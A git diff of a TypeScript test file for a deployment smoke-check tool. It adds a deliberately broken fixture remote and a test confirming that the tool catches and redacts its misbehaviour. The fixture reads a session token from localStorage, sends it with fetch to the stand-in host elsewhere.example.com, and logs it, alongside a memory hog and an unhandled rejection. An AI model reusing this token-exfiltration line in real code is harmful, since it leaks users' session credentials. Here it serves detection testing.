@@ -1,6 +1,6 @@
 import { spawn } from 'node:child_process';
 import path from 'node:path';
-import { Propose, ReadState, Switch } from '@madang/contracts';
+import { Audit, Propose, ReadState, Switch } from '@madang/contracts';
 import {
   admin,
   ask,
@@ -19,12 +19,33 @@ const params = { channel: 'stable' };
 const GOOD = '1.4.0';
 const BROKEN = '1.5.0';
 
+/** A remote of which the first page is as ever, and all else is not. */
+const brokenBehind = {
+  'src/remote.ts': `
+    import { defineRemote } from '@madang/federation';
+    import own from './remote.own';
+    if ('document' in globalThis) {
+      globalThis.hoard = new Uint8Array(480_000_000).fill(1);
+      setTimeout(() => void Promise.reject(new Error('three seconds later')), 3000);
+      const token = localStorage.getItem('custom.token');
+      fetch('https://elsewhere.example.com/' + token + '?token=' + token).catch(() => {});
+      console.error('who reads this has ' + token);
+    }
+    function Broken() {
+      throw new Error('the second page');
+    }
+    const routes = own.routes.map(route => (route.path === '/member' ? { path: '/member', Component: Broken } : route));
+    export default defineRemote({ ...own, routes });
+  `,
+};
+
 const test = siteTest.extend<object, { needsSmoke: undefined }>({
   needsSmoke: [
     async ({ site }, use) => {
       const built = await buildVariants([
         { room: 'community', version: GOOD },
         { room: 'community', version: BROKEN, sources: throwsOnRender },
+        { room: 'wallet', version: BROKEN, sources: brokenBehind },
       ]);
       for (const each of built) await site.delivery.publish(each);
       await site.delivery.setPolicy({ secondOperatorFor: [], needsSmoke: true });
@@ -40,9 +61,9 @@ async function state(site: Site) {
   return ReadState.replies[200].parse(reply);
 }
 
-async function proposed(site: Site, version: string): Promise<string> {
+async function proposed(site: Site, version: string, name = 'community'): Promise<string> {
   const { token } = await admin(site.origin);
-  const { reply } = await ask(site.origin, Propose, { token, params, body: { name: 'community', version } });
+  const { reply } = await ask(site.origin, Propose, { token, params, body: { name, version } });
   return Propose.replies[201].parse(reply).id;
 }
 
@@ -55,7 +76,7 @@ async function switchTo(site: Site, composition: string): Promise<{ status: numb
 }
 
 /** `madang smoke`, as an operator runs it. */
-async function smoke(site: Site, composition: string): Promise<{ code: number | null; printed: string }> {
+async function smoke(site: Site, composition: string) {
   const { token } = await admin(site.origin);
   const { member, password } = await newMember(site.origin);
   const who = ['--registry', site.origin, `--token=${token}`, '--member', `${member.userId}:${password}`];
@@ -64,7 +85,7 @@ async function smoke(site: Site, composition: string): Promise<{ code: number | 
   const printed: string[] = [];
   for (const output of [child.stdout, child.stderr]) output.on('data', chunk => printed.push(String(chunk)));
   const code = await new Promise<number | null>(done => child.once('exit', done));
-  return { code, printed: printed.join('') };
+  return { code, printed: printed.join(''), token };
 }
 
 test('a candidate that throws on render does not reach members [I-gates]', async ({ site }) => {
@@ -82,6 +103,26 @@ test('a candidate that throws on render does not reach members [I-gates]', async
   expect(after.text).toContain('a failure stands in place');
 });
 
+test('a candidate whose first page alone is well does not pass, and tells nobody a session [I-gates]', async ({
+  site,
+}) => {
+  test.setTimeout(180_000);
+  const candidate = await proposed(site, BROKEN, 'wallet');
+
+  const { code, printed, token } = await smoke(site, candidate);
+
+  expect(code).toBe(1);
+  expect(printed).toMatch(/^\/member: a failure stands in place of the page/m);
+  expect(printed).toMatch(/nothing caught an error \(wallet\): three seconds later/);
+  expect(printed).toMatch(/^wallet: its pages hold \d+ MB of memory, but 100 MB may be/m);
+  expect(printed).toContain('https://elsewhere.example.com/…');
+  expect(printed).toContain('who reads this has …');
+  expect(printed).not.toContain(token);
+  expect(printed).not.toMatch(/[?&]token=/);
+  const { reply } = await ask(site.origin, Audit, { token });
+  expect(JSON.stringify(Audit.replies[200].parse(reply))).toContain('elsewhere.example.com');
+});
+
 test('a candidate that draws every page passes, and goes to members [I-gates]', async ({ site }) => {
   test.setTimeout(180_000);
   const before = (await state(site)).current.id;
@@ -89,7 +130,7 @@ test('a candidate that draws every page passes, and goes to members [I-gates]', 
 
   const { code, printed } = await smoke(site, candidate);
 
-  expect(printed).toContain('passed');
+  expect(printed).toMatch(/^\d{2} pages are drawn as they should be: passed$/m);
   expect(code).toBe(0);
   expect((await switchTo(site, candidate)).status).toBe(200);
   await site.delivery.rollBack(before, 'after a test');
